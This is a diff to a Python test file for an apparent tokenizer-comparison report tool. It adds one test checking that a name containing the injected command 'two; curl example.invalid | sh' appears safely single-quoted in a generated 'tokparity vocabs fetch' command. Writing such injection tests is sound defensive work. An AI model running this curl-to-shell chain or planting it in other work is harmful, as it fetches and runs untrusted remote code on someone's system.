@@ -175,6 +175,11 @@ def test_a_conversation_is_shown_with_what_differs(exhibit):
     assert "| got | `llama.cpp` | `one` | `same` |" in texts
 
 
+def test_a_name_is_one_word_of_a_command(exhibit):
+    text = report(exhibit(against="two; curl example.invalid | sh"))
+    assert "`tokparity vocabs fetch 'two; curl example.invalid | sh'`" in text
+
+
 def outside_code(text):
     """What a Markdown reader takes for mark-up: without fenced blocks and code spans."""
     kept, fence = [], None
